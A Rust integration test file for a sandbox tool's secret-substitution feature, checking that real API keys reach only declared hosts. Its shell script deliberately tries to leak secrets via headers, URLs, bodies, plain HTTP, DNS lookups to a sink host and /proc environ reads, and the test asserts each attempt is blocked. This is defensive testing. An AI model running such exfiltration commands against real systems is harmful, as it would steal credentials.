//! Phantom credentials (`--secret`), end to end against real servers on
//! test hosts (sbx_testutil::phantom): the command sees placeholders, the
//! declared host receives the real value over HTTP/1.1 and HTTP/2 (curl,
//! Python urllib and requests), the placeholder going anywhere else is cut
//! with a secret_leak_blocked alert, an undeclared host is spliced (its
//! own certificate), an upstream with a wrong certificate is refused, SSE
//! is streamed, and the value is nowhere in the audit log or on stderr.
//! As root and as the test user.

use std::process::Command;

use sbx_testutil::phantom::{World, secret_value, unavailable};
use sbx_testutil::{As, audit_events, identities, run_as, stderr, stdout};
use serde_json::Value;

const PY: &str = "/usr/bin/python3";

/// Python inside the sandbox: urllib and requests with the placeholder in
/// a header, then the SSE stream (first event, release, last event).
const CLIENT: &str = r#"
import os, sys, urllib.request
k = os.environ["K_API"]
r = urllib.request.urlopen(urllib.request.Request("https://api.test/py", headers={"Authorization": "Bearer " + k}), timeout=20)
print("PY=%d" % r.status, flush=True)
try:
    import requests
    r = requests.get("https://api.test/rq", headers={"X-Api-Key": k}, timeout=20)
    print("RQ=%d" % r.status_code, flush=True)
except ImportError:
    print("RQ=missing", flush=True)
s = urllib.request.urlopen("https://api.test/sse", timeout=30)
first = s.readline().decode().strip()
print("SSE_FIRST=" + first, flush=True)
urllib.request.urlopen("https://api.test/release", timeout=20).read()
rest = s.read().decode()
last = [l for l in rest.splitlines() if l.startswith("data:")]
print("SSE_LAST=" + (last[-1] if last else "none"), flush=True)
"#;

fn marker(out: &str, key: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .unwrap_or_else(|| panic!("no {key}= in:\n{out}"))
        .to_string()
}

fn path_of(req: &Value) -> String {
    let u = req["uri"].as_str().unwrap_or("");
    // h2 requests carry the authority in the URI.
    match u.find("://") {
        Some(i) => u[i + 3..]
            .find('/')
            .map(|j| u[i + 3 + j..].to_string())
            .unwrap_or_default(),
        None => u.to_string(),
    }
}

fn req<'a>(reqs: &'a [Value], path: &str) -> &'a Value {
    reqs.iter()
        .find(|r| path_of(r) == path)
        .unwrap_or_else(|| panic!("no request for {path}: {reqs:#?}"))
}

#[test]
fn phantom_credentials_reach_only_their_hosts() {
    if let Some(why) = unavailable() {
        sbx_testutil::skip!("{why}");
    }
    let w = World::new();
    for who in identities() {
        let api = secret_value("API", 48);
        let other = secret_value("OTHER", 40);
        let bad = secret_value("BAD", 12);
        let other_file = w.file(&format!("other-{who:?}"), &format!("{other}\n"));
        let bad_file = w.file(&format!("bad-{who:?}"), &bad);
        let client = w.file("client.py", CLIENT);
        let d = sbx_testutil::shared_tempdir();
        let log = d.path().join("audit.jsonl");
        let script = format!(
            r#"
echo "ENV_API=$K_API"; echo "ENV_OTHER=$K_OTHER"; echo "ENV_BAD=$K_BAD"
echo "CAFILE=$SSL_CERT_FILE"
tr '\0' '\n' </proc/$$/environ | grep -a '^K_'
echo PARENT_ENV; tr '\0' '\n' </proc/$PPID/environ 2>/dev/null; tr '\0' '\n' </proc/1/environ 2>/dev/null; echo
curl -sS --http1.1 -H "Authorization: Bearer $K_API" https://api.test/h1; echo H1=$?
curl -sS --http2 -w 'V=%{{http_version}}\n' -H "x-api-key: $K_API" https://api.test/h2; echo H2=$?
curl -sS --http1.1 -H "x-other: $K_OTHER" https://other-api.test/own; echo OWN=$?
curl -sS --data "key=$K_API" https://api.test/body; echo BODY=$?
echo FRONT=$(curl -s -o /dev/null -w '%{{http_code}}' --http1.1 -H "Host: pinned.test" -H "Authorization: Bearer $K_API" https://api.test/front)
echo LEAK_HDR=$(curl -s -o /dev/null -w '%{{http_code}}' -H "Authorization: Bearer $K_API" https://other-api.test/leak)
echo LEAK_URL=$(curl -s -o /dev/null -w '%{{http_code}}' "https://other-api.test/u?k=$K_API")
echo LEAK_BODY=$(curl -s -o /dev/null -w '%{{http_code}}' --data "key=$K_API" https://other-api.test/bodyleak)
curl -s -m 10 -H "Authorization: Bearer $K_API" http://sink.test/plain >/dev/null 2>&1; echo LEAK_PLAIN=$?
{py} -c 'import socket,sys; socket.getaddrinfo(sys.argv[1] + ".sink.test", 80)' "$K_API" >/dev/null 2>&1; echo LEAK_DNS=$?
curl -s -m 10 -H "Authorization: $K_BAD" https://badcert.test/ >/dev/null 2>&1; echo BADCERT=$?
echo ISSUER=$(openssl s_client -connect pinned.test:443 -servername pinned.test </dev/null 2>/dev/null | openssl x509 -noout -issuer)
echo APIISSUER=$(openssl s_client -connect api.test:443 -servername api.test </dev/null 2>/dev/null | openssl x509 -noout -issuer)
{py} {client}
"#,
            py = PY,
            client = client.display()
        );
        // K_BAD arrives on fd 3.
        let mut c = Command::new("/bin/sh");
        c.arg("-c")
            .arg(r#"f=$1; shift; exec "$@" 3<"$f""#)
            .arg("sh")
            .arg(&bad_file)
            .arg(sbx_testutil::bin("sbx-net"))
            .arg("--audit-log")
            .arg(&log)
            .arg(format!("--dns-upstream={}", w.dns.ip))
            .arg("--dns-rebind-allow=test")
            .args(["--secret", "K_API@api.test"])
            .arg(format!(
                "--secret=K_OTHER@other-api.test=file:{}",
                other_file.display()
            ))
            .args(["--secret", "K_BAD@badcert.test=fd:3"])
            .args(["--secret-in-body", "K_API"])
            .args(["--allow", "pinned.test", "--allow", "sink.test"])
            .args(["--allow", "*.sink.test"])
            .args(["--", "/bin/sh", "-c", &script])
            .env("K_API", &api)
            .env("SSL_CERT_FILE", &w.ca)
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
            .current_dir("/");
        run_as(&mut c, who);
        let out = sbx_testutil::output_within(&mut c, std::time::Duration::from_secs(120));
        let (so, se) = (stdout(&out), stderr(&out));
        let diag = format!("{who:?}: {so}\n--- stderr\n{se}");
        assert_eq!(out.status.code(), Some(0), "{diag}");

        // Inside: placeholders only.
        let p_api = marker(&so, "ENV_API");
        assert!(p_api.starts_with("sbx-phantom-"), "{diag}");
        assert_eq!(p_api.len(), api.len(), "same length class: {diag}");
        assert!(
            marker(&so, "ENV_OTHER").starts_with("sbx-phantom-"),
            "{diag}"
        );
        let p_bad = marker(&so, "ENV_BAD");
        assert!(
            p_bad.starts_with("sbx-phantom-") && p_bad.len() >= 36,
            "{diag}"
        );
        assert_eq!(marker(&so, "CAFILE"), "/etc/ssl/certs/ca-certificates.crt");
        assert!(
            so.contains(&format!("K_API={p_api}")),
            "/proc/$$/environ: {diag}"
        );
        for v in [&api, &other, &bad] {
            assert!(!so.contains(v.as_str()), "a real value inside: {diag}");
            assert!(!se.contains(v.as_str()), "a real value on stderr: {diag}");
        }

        // The declared host got the real values, h1 and h2.
        assert_eq!(marker(&so, "H1"), "0", "{diag}");
        assert_eq!(marker(&so, "H2"), "0", "{diag}");
        assert_eq!(marker(&so, "V"), "2", "{diag}");
        assert_eq!(marker(&so, "OWN"), "0", "{diag}");
        assert_eq!(marker(&so, "BODY"), "0", "{diag}");
        assert_eq!(marker(&so, "PY"), "200", "{diag}");
        // python3-requests (scripts/deps/apt-net.txt).
        assert_eq!(marker(&so, "RQ"), "200", "{diag}");
        assert!(
            marker(&so, "APIISSUER").contains("sbx-net per-run CA"),
            "{diag}"
        );
        let reqs = World::requests(&w.api_log);
        let last = |path: &str| -> Value {
            reqs.iter()
                .rev()
                .find(|r| path_of(r) == path)
                .cloned()
                .unwrap_or_else(|| panic!("{path} not received: {diag}"))
        };
        let h1 = last("/h1");
        assert_eq!(h1["version"], "HTTP/1.1");
        assert_eq!(h1["headers"]["authorization"], format!("Bearer {api}"));
        let h2 = last("/h2");
        assert_eq!(h2["version"], "HTTP/2.0");
        assert_eq!(h2["headers"]["x-api-key"], api.as_str());
        assert_eq!(last("/own")["headers"]["x-other"], other.as_str());
        assert_eq!(last("/body")["body"], format!("key={api}"));
        assert_eq!(
            last("/py")["headers"]["authorization"],
            format!("Bearer {api}")
        );
        assert_eq!(last("/rq")["headers"]["x-api-key"], api.as_str());
        let _ = req(&reqs, "/h1");

        // Anywhere else: cut, alerted, and the server never saw it.
        // Domain fronting: a Host naming another site is refused (421).
        assert_eq!(marker(&so, "FRONT"), "421", "{diag}");
        assert!(!reqs.iter().any(|r| path_of(r) == "/front"), "{diag}");
        assert_eq!(marker(&so, "LEAK_HDR"), "403", "{diag}");
        assert_eq!(marker(&so, "LEAK_URL"), "403", "{diag}");
        assert_eq!(marker(&so, "LEAK_BODY"), "403", "{diag}");
        assert_ne!(marker(&so, "LEAK_PLAIN"), "0", "{diag}");
        assert_ne!(marker(&so, "LEAK_DNS"), "0", "{diag}");
        for r in reqs.iter().chain(World::requests(&w.sink_log).iter()) {
            let s = r.to_string();
            if ["/leak", "/plain", "/bodyleak"].contains(&path_of(r).as_str())
                || path_of(r).starts_with("/u?")
            {
                assert!(!s.contains(&api) && !s.contains(&p_api), "{s}");
            }
        }
        assert!(
            !std::fs::read_to_string(&w.dns_log)
                .unwrap_or_default()
                .to_ascii_lowercase()
                .contains(&p_api[12..].to_ascii_lowercase()),
            "the DNS name was forwarded"
        );
        let evs = audit_events(&log);
        let leak = |place: &str, host: &str| {
            evs.iter().any(|e| {
                e["event"] == "secret_leak_blocked"
                    && e["severity"] == "alert"
                    && e["secret"] == "K_API"
                    && e["where"] == place
                    && e["host"].as_str().unwrap_or("").contains(host)
            })
        };
        assert!(leak("header", "other-api.test"), "{diag}\n{evs:#?}");
        assert!(leak("url", "other-api.test"), "{evs:#?}");
        assert!(leak("body", "other-api.test"), "{evs:#?}");
        assert!(leak("connection", "sink.test"), "{evs:#?}");
        assert!(leak("dns", "dns"), "{evs:#?}");

        // A server that cannot prove it is badcert.test gets nothing.
        assert_ne!(marker(&so, "BADCERT"), "0", "{diag}");
        assert!(
            evs.iter().any(|e| e["event"] == "net_upstream_refused"
                && e["severity"] == "alert"
                && e["host"] == "badcert.test"),
            "{evs:#?}"
        );
        assert!(
            !reqs.iter().any(|r| r.to_string().contains(&bad)),
            "badcert.test's value reached a server"
        );
        // An undeclared host is spliced: its own certificate.
        let issuer = marker(&so, "ISSUER");
        assert!(issuer.contains("sbx phantom test CA"), "{diag}");
        // SSE: the first event arrived before the server sent the last.
        assert_eq!(marker(&so, "SSE_FIRST"), "data: first", "{diag}");
        assert_eq!(marker(&so, "SSE_LAST"), "data: last released", "{diag}");

        // The values are nowhere in the audit log.
        let raw = std::fs::read_to_string(&log).unwrap();
        for v in [&api, &other, &bad] {
            assert!(!raw.contains(v.as_str()), "a value in the audit log");
        }
        let start = evs.iter().find(|e| e["event"] == "net_start").unwrap();
        assert_eq!(start["secrets"][0]["name"], "K_API", "{start}");
        // The bundle's name on the host is gone.
        let pid_left = std::fs::read_dir(std::env::temp_dir())
            .unwrap()
            .filter_map(|e| e.ok())
            .any(|e| {
                let n = e.file_name().to_string_lossy().to_string();
                n.starts_with("sbx-net-ca-")
                    && start["pid"]
                        .as_u64()
                        .is_some_and(|p| n.starts_with(&format!("sbx-net-ca-{p}-")))
            });
        assert!(!pid_left, "the CA bundle file was left behind");
        if who == As::User {
            // The test user's sbx-net ran as that user: /proc/PPID/environ
            // was readable inside and showed no value (asserted above).
            assert!(so.contains("PARENT_ENV"), "{diag}");
        }
    }
}

#[test]
fn bad_secret_specs_exit_125_with_one_line() {
    let d = sbx_testutil::shared_tempdir();
    let big = d.path().join("big");
    std::fs::write(&big, vec![b'a'; 20000]).unwrap();
    let empty = d.path().join("empty");
    std::fs::write(&empty, "\n").unwrap();
    let fifo = d.path().join("fifo");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo on a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let cases: Vec<(Vec<String>, &str)> = vec![
        (vec!["K@api.test".into()], "no K"),
        (vec!["1K@api.test".into()], "NAME"),
        (vec!["K@*.api.test".into()], "not a DNS host name"),
        (vec!["K@10.0.0.1".into()], "not a DNS host name"),
        (
            vec![format!("K@api.test=file:{}", big.display())],
            "more than",
        ),
        (
            vec![format!("K@api.test=file:{}", empty.display())],
            "empty",
        ),
        (
            vec![format!("K@api.test=file:{}", fifo.display())],
            "not a regular file",
        ),
        (vec!["K@api.test=fd:9".into()], "fd 9"),
        (vec!["K@api.test=env:X".into()], "file:PATH or fd:N"),
    ];
    for (args, needle) in cases {
        let mut c = sbx_testutil::tool("sbx-net");
        for a in &args {
            c.arg("--secret").arg(a);
        }
        c.args(["--", "true"]).env_remove("K");
        let out = sbx_testutil::output_within(&mut c, std::time::Duration::from_secs(30));
        sbx_testutil::assert_usage_error(&out, needle);
    }
    let mut c = sbx_testutil::tool("sbx-net");
    c.args(["--secret-in-body", "K", "--", "true"]);
    let out = sbx_testutil::output_within(&mut c, std::time::Duration::from_secs(30));
    sbx_testutil::assert_usage_error(&out, "--secret-in-body");
}

/// SIGKILLed right after making the CA bundle file in the temp dir, and
/// after writing it (fault injection, `SBX_TEST_KILL_AT`): no clean-up of
/// sbx-net runs, but the file was registered before it was made, so the
/// next sbx-net (any run) removes it. As root and as the test user.
#[test]
fn a_sigkill_after_the_ca_bundle_is_made_leaves_no_file_after_the_next_run() {
    use std::os::unix::process::ExitStatusExt;
    for who in identities() {
        for point in ["net-ca-created", "net-ca-written"] {
            let d = sbx_testutil::shared_tempdir();
            let tmp = d.path().join("tmp");
            std::fs::create_dir(&tmp).unwrap();
            sbx_testutil::chown_to_test_user(&tmp);
            let key = d.path().join("key");
            std::fs::write(&key, "sk-kill-test-value\n").unwrap();
            sbx_testutil::chown_to_test_user(&key);
            let bundles = || {
                std::fs::read_dir(&tmp)
                    .unwrap()
                    .filter_map(|e| e.ok())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.starts_with("sbx-net-ca-"))
                    .collect::<Vec<_>>()
            };
            let mut c = sbx_testutil::tool("sbx-net");
            c.arg("--secret")
                .arg(format!("K_API@api.test=file:{}", key.display()))
                .args(["--", "true"])
                .env("TMPDIR", &tmp)
                .env("SBX_TEST_KILL_AT", point);
            run_as(&mut c, who);
            let out = sbx_testutil::output_within(&mut c, std::time::Duration::from_secs(30));
            assert_eq!(
                out.status.signal(),
                Some(libc::SIGKILL),
                "{who:?} {point}: {out:?}"
            );
            assert_eq!(bundles().len(), 1, "{who:?} {point}: the bundle was made");
            // The next run, with no --secret and another TMPDIR.
            let mut c = sbx_testutil::tool("sbx-net");
            c.args(["--", "true"]);
            run_as(&mut c, who);
            let out = sbx_testutil::output_within(&mut c, std::time::Duration::from_secs(30));
            assert_eq!(out.status.code(), Some(0), "{who:?}: {out:?}");
            assert!(
                bundles().is_empty(),
                "{who:?} {point}: left {:?}",
                bundles()
            );
        }
    }
}
